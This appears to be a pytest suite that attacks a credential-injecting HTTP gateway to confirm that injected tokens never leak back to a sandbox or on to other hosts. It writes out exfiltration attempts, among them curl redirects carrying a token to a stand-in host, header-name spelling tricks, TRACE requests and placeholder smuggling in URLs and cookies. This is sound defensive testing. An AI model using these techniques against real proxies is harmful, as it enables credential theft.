"""Credential exfiltration. The gateway injects secrets the sandbox never holds (rule echo:
`Authorization: Bearer <api_token>` for echo.test; rule qecho: query `api_key=<query_key>`; rule
reflect: Authorization for reflect.test) and redacts every form of them from what comes back.

Each attack tries to get a form of a secret back to the client, or the secret to another host:
echo endpoints reflecting it in bodies, headers, status lines, trailers, 1xx responses and header
names; TRACE; redirects to other hosts (followed by curl); header spelling tricks; placeholders
sent where they must not be swapped; a query parameter the sandbox sets too. The client side is
searched with tests.credentials.clients.leaks (every form gateway.redact.forms_of lists, plus
independent base64/hex/URL decoding); the other hosts' recorders are searched for the values.
"""

from __future__ import annotations

import re
from urllib.parse import parse_qsl, quote, urlsplit

import pytest

from gateway.credentials import load_placeholder_key, placeholder
from tests.credentials.clients import assert_no_leak, response_bytes
from tests.e2e.helpers import H2Client, assert_refused, connect_proxy, curl, get, tls_tunnel

from .common import attack, nothing_reached

pytestmark = attack("credentials")

STANDARD = ("allowed.test", "other.test", "api.test", "deep.wild.test")


def _everything(response) -> bytes:
    """Status line, headers and body, as the client got them."""
    line = f"HTTP/1.1 {response.status} {response.reason}\r\n".encode("latin-1", "replace")
    return line + response_bytes(response)


def _fetch(rt, host: str, path: str, headers=None, method: str = "GET"):
    with tls_tunnel(rt.gateway, f"{host}:443") as tls:
        return get(tls, path, host, method=method, extra=headers)


def _secret_never_at(rt, *servers) -> None:
    for server in servers:
        seen = "\n".join(r.everything() for r in server.requests)
        for name, value in rt.secrets.items():
            assert value not in seen and quote(value, safe="") not in seen, f"{name} reached {server.name}"


@pytest.mark.parametrize("route", ["/v1/anything/echo", "/v1/headers", "/v1/error", "/v1/reason", "/v1/encoded",
                                   "/v1/gzip?enc=gzip", "/v1/stream?size=200000&chunk=4096&te=chunked"])
def test_echo_endpoints(rt, route):
    response = _fetch(rt, "echo.test", route)
    [seen] = rt.servers["echo"].requests
    assert seen.header_all("authorization") == [f"Bearer {rt.secrets['api_token']}"]  # it was injected
    assert_no_leak(_everything(response), rt.secrets)
    nothing_reached(rt.recorders(*STANDARD))


def test_echo_over_h2(rt):
    with tls_tunnel(rt.gateway, "echo.test:443", alpn=["h2"]) as tls:
        h2 = H2Client(tls)
        streams = [h2.send("echo.test", path) for path in ("/v1/anything/h2", "/v1/headers", "/v1/error")]
        h2.wait(*streams)
    for stream in streams:
        headers = "\n".join(f"{k}: {v}" for k, v in h2.responses[stream]["headers"]).encode()
        assert_no_leak(headers + h2.responses[stream]["body"], rt.secrets, f"h2 stream {stream}")


@pytest.mark.parametrize("route", ["/trailer", "/early-hints", "/header-name"])
def test_reflection_outside_header_values_and_body(rt, route):
    """reflect.test echoes the injected credential in a response trailer, in a 103 Early Hints
    response before the final one, and in a header *name* (base64url and hex are valid token
    characters). The client must see none of them."""
    with tls_tunnel(rt.gateway, "reflect.test:443") as tls:
        tls.send(f"GET {route} HTTP/1.1\r\nHost: reflect.test\r\n\r\n".encode())
        data = b""
        tls.sock.settimeout(1)
        try:
            while chunk := tls.sock.recv(65536):
                data += chunk
                if data.endswith((b"\r\n\r\nok", b"0\r\n\r\n")) or b"\r\n0\r\n" in data and data.endswith(b"\r\n\r\n"):
                    break
        except OSError:
            pass
    assert rt.servers["reflect"].heads, "the request did not reach reflect.test"
    assert data.startswith(b"HTTP/1.1"), data[:200]
    assert_no_leak(data, rt.secrets, f"raw response bytes of {route}")


@pytest.mark.parametrize("method", ["TRACE", "TRACK"])
def test_trace_to_an_echoing_host(rt, method):
    response = _fetch(rt, "echo.test", "/v1/anything", method=method)
    assert_refused(response, 403, "method_forbidden")
    assert not rt.servers["echo"].touched
    assert_no_leak(_everything(response), rt.secrets)


@pytest.mark.parametrize("target", ["https://mirror.test/v1/anything/followed", "https://other.test/v1/followed",
                                    "http://echo.test/v1/anything/plaintext"])
def test_redirect_to_another_host_followed_by_curl(rt, target):
    """echo.test answers 302 to `target`; curl follows it through the gateway (with
    --location-trusted, which would resend an Authorization header it had)."""
    result = curl(rt.gateway, f"https://echo.test/v1/redirect?to={quote(target, safe='')}", "-L",
                  "--location-trusted")
    assert_no_leak(result.body + "\n".join(f"{k}: {v}" for k, v in result.headers), rt.secrets)
    _secret_never_at(rt, rt.servers["mirror"])
    for name in STANDARD:
        for server in (rt.upstreams.tls[name], rt.upstreams.plain[name]):
            assert not any(v in repr(r.headers) + r.path for r in server.requests for v in rt.secrets.values())
    if "mirror.test" in target:
        assert result.status == 200 and rt.servers["mirror"].requests, result
    else:
        assert result.status in (403, 0), result  # other.test: no rule; http: the rule is https only
    nothing_reached(rt.recorders("other.test"))


def _placeholder(rt, name: str = "api_token") -> str:
    return placeholder(load_placeholder_key(rt.gateway.confdir), name, None)


def test_placeholder_reflected_into_a_redirect(rt):
    """The sandbox puts its placeholder into the redirect target on the bound host; the gateway
    swaps it (it is in the path of a bound request) and echo.test puts the real value in Location.
    The Location the client sees must be redacted, and the host it names never gets the value."""
    token = _placeholder(rt)
    target = f"https://mirror.test/v1/anything/stolen?t={token}"
    result = curl(rt.gateway, f"https://echo.test/v1/redirect?to={quote(target, safe='')}", "-L")
    assert_no_leak(result.body + "\n".join(f"{k}: {v}" for k, v in result.headers) + result.stderr, rt.secrets)
    _secret_never_at(rt, rt.servers["mirror"])


def _pieces(secret: str) -> list[str]:
    """The parts of a secret between the characters a query parser splits or decodes at."""
    return [p for p in re.split(r"[&=+?# ]", secret) if len(p) >= 4]


@pytest.mark.parametrize("where", ["query-value", "query-key", "path-segment", "after-escape"])
def test_placeholder_swapped_into_the_url_and_reflected_parsed(rt, where):
    """The sandbox puts its placeholder in the URL of a request to the bound host. An echo that
    parses the query (httpbin's `args`, an error page quoting a parameter) turns `+` into a space and
    splits at `&` and `=`, and a `%2` right before the placeholder would take the secret's first hex
    digit into an escape: what came back would be no form the redactor knows, yet the sandbox could
    put the value together again. Rule echo names no query parameter for placeholders and does not
    allow them in the path: refused before anything is sent (tests/redteam/test_placeholder_misuse.py
    has the positions a rule does allow). Neither the value nor all of its pieces reach the client."""
    token = _placeholder(rt)
    path = {"query-value": f"/v1/anything?q={token}", "query-key": f"/v1/anything?{token}=1",
            "path-segment": f"/v1/anything/{token}/x", "after-escape": f"/v1/anything?q=%2{token}"}[where]
    response = _fetch(rt, "echo.test", path)
    assert_refused(response, 403, "placeholder_misuse", "echo")
    assert not rt.servers["echo"].touched
    body = _everything(response).decode("utf-8", "replace")
    secret = rt.secrets["api_token"]
    assert secret.replace("+", " ").split("&")[0] not in body, "the value came back with '+' read as a space"
    pieces = _pieces(secret)
    assert not all(piece in body for piece in pieces), f"every piece of the secret came back: {pieces}"
    assert_no_leak(body, rt.secrets)


@pytest.mark.parametrize("host", ["mirror.test", "allowed.test"])
def test_placeholder_sent_to_another_host_is_not_swapped(rt, host):
    token = _placeholder(rt)
    response = _fetch(rt, host, f"/v1/anything?key={token}", [("Authorization", f"Bearer {token}"),
                                                               ("X-Api-Key", token)])
    assert response.status == 200
    assert_no_leak(_everything(response), rt.secrets)
    if host == "mirror.test":
        [seen] = rt.servers["mirror"].requests
        assert seen.header_all("authorization") == [f"Bearer {token}"]
        _secret_never_at(rt, rt.servers["mirror"])
    else:
        [seen] = rt.upstreams.tls["allowed.test"].requests
        assert token in seen.path and not any(v in repr(seen.headers) + seen.path for v in rt.secrets.values())


def test_placeholder_in_another_header_to_the_bound_host(rt):
    """Swapped (the request is bound to the secret), reflected by the echo, redacted on the way back."""
    token = _placeholder(rt)
    response = _fetch(rt, "echo.test", "/v1/anything/ph", [("X-Reflect-Me", token), ("X-List", f"a, {token}")])
    assert response.status == 200
    [seen] = rt.servers["echo"].requests
    assert seen.header_all("x-reflect-me") == [rt.secrets["api_token"]]
    assert_no_leak(_everything(response), rt.secrets)


def test_placeholder_in_a_cookie_to_the_bound_host(rt):
    """A cookie value is never a swap position (frameworks URL-decode it): refused, nothing sent."""
    token = _placeholder(rt)
    response = _fetch(rt, "echo.test", "/v1/anything/ph", [("Cookie", f"s={token}")])
    assert_refused(response, 403, "placeholder_misuse", "echo")
    assert not rt.servers["echo"].touched


@pytest.mark.parametrize("name", ["authorization ", "Authorization\t", "Authorization\x0b", "authorization:x"])
def test_header_spelling_tricks(rt, name):
    """A header name the gateway would not recognise as Authorization (so not replace) but an
    upstream might: refused, or the upstream sees exactly the injected credential once."""
    with tls_tunnel(rt.gateway, "echo.test:443") as tls:
        tls.send(f"GET /v1/anything/spelling HTTP/1.1\r\nHost: echo.test\r\n{name}: Bearer sandbox-own\r\n\r\n"
                 .encode("latin-1"))
        try:
            response = tls.read_response()
        except (ConnectionError, OSError):
            response = None
    if response is not None:
        assert_no_leak(_everything(response), rt.secrets)
    for seen in rt.servers["echo"].requests:
        values = [v for k, v in seen.headers if k.strip().lower().startswith("authorization")]
        assert values == [f"Bearer {rt.secrets['api_token']}"], values


def test_duplicate_and_case_variants_are_replaced(rt):
    response = _fetch(rt, "echo.test", "/v1/anything/dups", [("AUTHORIZATION", "Bearer a"), ("authorization", "b"),
                                                             ("Authorization", "Basic Yjpj")])
    [seen] = rt.servers["echo"].requests
    assert seen.header_all("authorization") == [f"Bearer {rt.secrets['api_token']}"]
    assert_no_leak(_everything(response), rt.secrets)


def test_query_parameter_set_by_the_sandbox_too(rt):
    """Every spelling the injection replaces (the decoded name) is replaced; look-alikes it does
    not replace (`API_KEY`, `api_key[]`), which an upstream may read as the same parameter, are the
    sandbox's own credential: refused before anything is sent."""
    response = _fetch(rt, "qecho.test", "/v1/anything?api_key=mine&api%5Fkey=y&q=1")
    [seen] = rt.servers["echo"].requests
    query = parse_qsl(urlsplit(seen.path).query, keep_blank_values=True)
    assert [v for k, v in query if k == "api_key"] == [rt.secrets["query_key"]], query
    assert_no_leak(_everything(response), rt.secrets)
    rt.reset()
    for look_alike in ("API_KEY=x", "api_key[]=z", "api.key=w"):
        response = _fetch(rt, "qecho.test", f"/v1/anything?api_key=mine&{look_alike}")
        assert_refused(response, 403, "foreign_credential", "qecho")
        assert not rt.servers["echo"].touched
        assert_no_leak(_everything(response), rt.secrets)


def test_restating_the_bound_host_to_move_the_credential(rt):
    """A tunnel to mirror.test with Host echo.test (to get echo's credential injected and sent to
    mirror): 421, mirror and echo see nothing."""
    with tls_tunnel(rt.gateway, "mirror.test:443") as tls:
        response = get(tls, "/v1/anything", "echo.test")
    assert_refused(response, 421, "host_mismatch")
    assert not rt.servers["mirror"].touched and not rt.servers["echo"].touched


def test_bound_host_over_plain_http(rt):
    with connect_proxy(rt.gateway) as conn:
        response = conn.request("GET", "http://echo.test/v1/anything", [("Host", "echo.test")])
    assert response.status == 403, response.text
    assert not rt.servers["echo"].touched
    assert_no_leak(_everything(response), rt.secrets)
